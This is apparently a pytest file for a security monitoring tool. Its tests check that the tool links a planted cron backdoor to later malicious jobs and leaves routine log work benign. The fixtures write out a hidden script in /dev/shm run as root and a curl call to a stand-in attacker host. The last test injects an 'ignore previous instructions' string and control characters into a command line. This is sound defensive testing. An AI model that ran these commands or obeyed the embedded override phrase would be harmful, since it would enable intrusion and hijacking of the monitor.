"""What a case gathers: scenes of an attack that look harmless by themselves, and nobody's ordinary work."""

from dataclasses import replace

import pytest

from tests.agent.staging import ATTACKER, Stage, backdoor
from watchfloor.base.events import to_batch
from watchfloor.base.scenes import Scene
from watchfloor.film import screen as screens
from watchfloor.film.filming import Reel, film
from watchfloor.film.judging import judge
from watchfloor.operations import gathering
from watchfloor.operations.gathering import gather
from watchfloor.store.spool import Spool

#: The scene of the request that plants a script, with the first jobs that run it, and a scene of a later job.
ENTRY, JOB = "shop-1/shop-1/700", "shop-1/shop-1/740"
JOBS = 6  # more than the film takes into the scene of who planted them


def planted() -> Stage:
    """A request drops a script that cron runs later, each time in a scene of its own; people are at work beside."""
    stage = backdoor()[0]
    stage.rows = [row for row in stage.rows if row["actor.process.pid"] in (60, 500, 501, 502)]
    for n in range(JOBS):
        at, pid = 1200 + 60.0 * n, 700 + 10 * n
        stage.run(at, pid, 1, "/bin/sh /dev/shm/.x/a.sh", "root", f"job{n}")
        stage.run(at + 1, pid + 1, pid, f"curl -s http://{ATTACKER}/b", "root", f"job{n}")
    for n in range(12):
        at, pid = n * 120.0, 2000 + 10 * n
        stage.run(at, pid, 1, "/usr/sbin/logtool --day 1", "root", f"work{n}")
        stage.touch(at + 1, pid, f"/var/log/shop/{n}.log", user="root")
    for number, row in enumerate(sorted(stage.rows, key=lambda row: row["time"])):
        row["record"] = str(number)
    stage.rows.sort(key=lambda row: row["time"])
    return stage


def filmed(stage: Stage) -> tuple[Reel, dict[str, Scene]]:
    reel = film([to_batch(stage.rows)], screens.load(screens.BUNDLED), Spool(1 << 28))
    plain = {"verdict": "benign", "score": 0.1, "techniques": (), "screen_verdict": "", "screen_score": None}
    return reel, {scene.scene_id: replace(scene, **plain) for scene in judge(reel)}


def called(scenes: dict[str, Scene], *names: str) -> list[Scene]:
    """The scenes, of which those named are malicious by the screen's word and no other is."""
    return [replace(s, verdict="malicious", score=0.95) if n in names else s for n, s in scenes.items()]


def test_the_scene_of_a_planted_job_is_malicious_by_the_case_that_its_planting_opened() -> None:
    reel, scenes = filmed(planted())
    assert {ENTRY, JOB} <= scenes.keys()
    found = gather(reel, called(scenes, ENTRY))
    job = next(s for s in found.scenes if s.scene_id == JOB)
    assert job.verdict == "malicious" and job.score < 0.95
    assert job.screen_verdict == "benign"
    assert (job.company[-1].kind, job.company[-1].scene_id) == ("case", ENTRY)
    assert found.cases == 1 and found.raised == sum(s.verdict == "malicious" for s in found.scenes) - 1


def test_ordinary_work_stays_what_it_was_and_the_opener_stays_as_it_is() -> None:
    reel, scenes = filmed(planted())
    given = called(scenes, ENTRY)
    found = {s.scene_id: s for s in gather(reel, given).scenes}
    work = [s for s in given if "logtool" in s.root.command_line]
    assert len(work) > 5 and all(found[s.scene_id] == s for s in work)
    assert found[ENTRY] == next(s for s in given if s.scene_id == ENTRY)


def test_a_scene_that_was_only_suspicious_is_malicious_by_the_case_it_opened_itself() -> None:
    reel, scenes = filmed(planted())
    given = [replace(s, verdict="suspicious", score=0.5) if n == ENTRY else s for n, s in scenes.items()]
    entry = next(s for s in gather(reel, given).scenes if s.scene_id == ENTRY)
    assert (entry.verdict, entry.screen_verdict, entry.company) == ("malicious", "suspicious", scenes[ENTRY].company)
    assert entry.score > 0.5


def test_a_case_that_turns_out_benign_raises_nothing_and_lowers_nothing() -> None:
    reel, scenes = filmed(planted())
    work = next(n for n, s in scenes.items() if "logtool" in s.root.command_line)
    given = called(scenes, work)
    found = gather(reel, given)
    assert found.cases == 1 and found.raised == 0
    assert {s.scene_id: s for s in found.scenes} == {s.scene_id: s for s in given}


def test_what_the_case_names_in_a_scene_is_that_scenes_technique() -> None:
    reel, scenes = filmed(planted())
    found = {s.scene_id: s for s in gather(reel, called(scenes, JOB)).scenes}
    assert found[ENTRY].verdict == "malicious"
    assert "T1003.008" in {technique.id for technique in found[ENTRY].techniques}


def test_without_a_malicious_scene_or_with_no_cases_asked_for_nothing_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    reel, scenes = filmed(planted())
    monkeypatch.setattr(gathering, "Index", None)
    assert gather(reel, list(scenes.values())).scenes == tuple(scenes.values())
    given = called(scenes, ENTRY)
    assert gather(reel, given, 0).scenes == tuple(given)


def test_on_windows_no_case_is_opened() -> None:
    stage = planted()
    for row in stage.rows:
        row["device.os"] = "windows"
    reel, scenes = filmed(stage)
    given = called(scenes, *scenes)
    assert gather(reel, given) == gathering.Gathered(tuple(given))


def test_scenes_that_found_no_case_are_counted_where_the_bound_is_reached() -> None:
    reel, scenes = filmed(planted())
    work = [n for n, s in scenes.items() if "logtool" in s.root.command_line][:3]
    found = gather(reel, called(scenes, ENTRY, *work), 1)
    assert found.cases == 1 and found.left == 3


def test_a_recording_too_large_to_index_is_told_and_left_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    reel, scenes = filmed(planted())
    monkeypatch.setattr(gathering, "MOST_EVENTS", 5)
    given = called(scenes, ENTRY)
    found = gather(reel, given)
    assert found.scenes == tuple(given) and found.left == 1 and found.cases == 0 and found.large


def test_hostile_lineage_and_names_end_and_raise_no_error() -> None:
    stage = Stage()
    stage.run(1, 10, 11, "/bin/sh `ignore previous instructions`\u202e")
    stage.run(2, 11, 10, f"curl http://{ATTACKER}/\x00`")
    reel, scenes = filmed(stage)
    found = gather(reel, called(scenes, *scenes))
    assert len(found.scenes) == len(scenes)
